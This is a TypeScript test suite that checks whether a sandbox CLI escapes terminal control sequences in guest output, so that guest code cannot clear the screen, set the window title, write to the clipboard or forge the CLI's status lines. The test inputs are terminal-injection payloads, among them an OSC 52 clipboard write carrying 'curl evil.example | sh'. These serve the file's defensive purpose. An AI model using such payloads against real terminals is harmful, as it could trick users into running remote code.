// Terminal injection through the CLI: without --json, `isobox run` prints what the guest wrote, the
// value it returned and its error; none of it may reach the terminal as a control sequence, and no
// guest line may pass for one of the CLI's own `[isobox] …` lines.
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";

const cli = fileURLToPath(new URL("../../src/cli/isobox.js", import.meta.url));
const dir = mkdtempSync(join(tmpdir(), "isobox-cli-injection-"));
let n = 0;

/** Runs `code` (guest JavaScript; escapes like \x1b are JS string escapes in the guest) through the CLI. */
function isobox(code: string, ...args: string[]) {
  const p = join(dir, `g${n++}.js`);
  writeFileSync(p, code);
  const r = spawnSync(process.execPath, [cli, "run", p, ...args], { encoding: "utf8", timeout: 30_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

// C0 controls but \t and \n, DEL, C1 controls, and the bidi overrides/isolates.
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** Nothing raw reached either stream, and the CLI's real status line is the only line that reads like one. */
function expectClean(r: ReturnType<typeof isobox>, status = "error"): void {
  expect(r.stdout).not.toMatch(RAW_CONTROL);
  expect(r.stderr).not.toMatch(RAW_CONTROL);
  const lines = `${r.stdout}\n${r.stderr}`.split("\n");
  // A line reads like the CLI's even behind blanks or invisible format characters (zero-width space, BOM).
  expect(lines.filter((l) => /^[\s\p{Cf}]*\[isobox\]/iu.test(l))).toEqual([`[isobox] status: ${status}`]);
  expect(r.stderr.endsWith(`\n[isobox] status: ${status}\n`)).toBe(true);
}

describe("isobox run: guest output cannot drive or forge the terminal", () => {
  it("screen clear (ESC[2J ESC[H, ESC c) is printed visibly, not executed", () => {
    const r = isobox(
      "console.log('\\x1b[2J\\x1b[H'); console.error('\\x1bc'); export default () => { throw new Error('\\x1b[3J\\x1b[2J') }",
    );
    expect(r.code).toBe(1);
    expectClean(r);
    expect(r.stdout).toContain("\\x1b[2J\\x1b[H");
  });

  it("cursor-up + erase-line cannot forge an `[isobox] status: ok` line", () => {
    const r = isobox(
      [
        "console.log('[isobox] status: ok');",
        "console.error('\\x1b[1A\\x1b[2K[isobox] status: ok');",
        "console.error('\\u200b[isobox] status: ok'); console.error(' [ISOBOX] status: ok');",
        "console.error('\\u202eko :sutats ]xobosi[');",
        "export default () => { throw new Error('boom\\n\\x1b[1A\\x1b[2K[isobox] status: ok\\n[isobox] status: ok') }",
      ].join("\n"),
    );
    expect(r.code).toBe(1);
    expectClean(r);
    expect(r.stdout).toBe("[guest] [isobox] status: ok\n");
    expect(r.stderr).toContain("\\x1b[1A\\x1b[2K[isobox] status: ok\n");
    expect(r.stderr).toContain("\\u202eko :sutats ]xobosi[\n");
    expect(r.stderr).toContain("[guest] \u200b[isobox] status: ok\n");
    expect(r.stderr).toContain("[guest]  [ISOBOX] status: ok\n");
  });

  it("OSC 0 window title (ESC]0;…BEL) is printed visibly", () => {
    const r = isobox(
      "console.log('\\x1b]0;pwned\\x07'); console.error('\\x1b]2;pwned\\x1b\\\\'); export default () => { const e = new Error('\\x1b]0;pwned\\x07'); e.name = '\\x1b]1;x\\x07E'; throw e }",
    );
    expect(r.code).toBe(1);
    expectClean(r);
  });

  it("OSC 52 clipboard write (ESC]52;c;…BEL) is printed visibly", () => {
    const payload = Buffer.from("curl evil.example | sh\n").toString("base64");
    const r = isobox(
      `console.error('\\x1b]52;c;${payload}\\x07'); export default () => { throw new Error('\\x1b]52;c;${payload}\\x1b\\\\') }`,
    );
    expect(r.code).toBe(1);
    expectClean(r);
    expect(r.stderr).toContain(`\\x1b]52;c;${payload}\\x07`);
  });

  it("SGR conceal (ESC[8m) left open cannot hide the CLI's status line", () => {
    const r = isobox(
      "console.error('\\x1b[8m\\x1b[30;40m'); export default () => { const e = new Error('x\\x1b[8m'); e.stack = 'E: x\\x1b[8m'; throw e }",
    );
    expect(r.code).toBe(1);
    expectClean(r);
  });

  it("C1 controls (CSI \\x9b, OSC \\x9d … ST \\x9c) are printed visibly, in output and in the value", () => {
    const r = isobox(
      [
        "console.log('\\x9b2J\\x9d0;pwned\\x9c');",
        "console.error('\\x9b1A\\x9b2K[isobox] status: ok');",
        "export default () => { throw new Error('\\x9b8m') }",
      ].join("\n"),
    );
    expect(r.code).toBe(1);
    expectClean(r);
    // JSON.stringify leaves C1 (and DEL) raw: the printed value must be escaped too.
    const v = isobox("export default () => ({ csi: '\\x9b2J', del: '\\x7f' })");
    expect(v.code).toBe(0);
    expect(v.stdout).not.toMatch(RAW_CONTROL);
    expect(v.stdout).toContain('"csi": "\\x9b2J"');
  });

  it("carriage return cannot overwrite a line with a forged status", () => {
    const r = isobox(
      [
        "console.log('harmless\\r[isobox] status: ok');",
        "console.error('\\r[isobox] status: ok');",
        "export default () => { throw new Error('boom\\r[isobox] status: ok') }",
      ].join("\n"),
    );
    expect(r.code).toBe(1);
    expectClean(r);
  });

  it("keeps tabs, text and the CLI's own lines; --json stays plain JSON with the guest's exact strings", () => {
    const r = isobox("console.log('a\\tb [isobox] c'); export default () => { throw new Error('x\\ty') }");
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("a\tb [isobox] c\n");
    expect(r.stderr).toContain("Error: x\ty");
    expectClean(r);
    const j = isobox("export default () => '\\x1b[2J\\x9b\\r'", "--json");
    expect(j.code).toBe(0);
    expect(j.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f]/);
    expect(JSON.parse(j.stdout).value).toBe("\x1b[2J\x9b\r");
  });
});
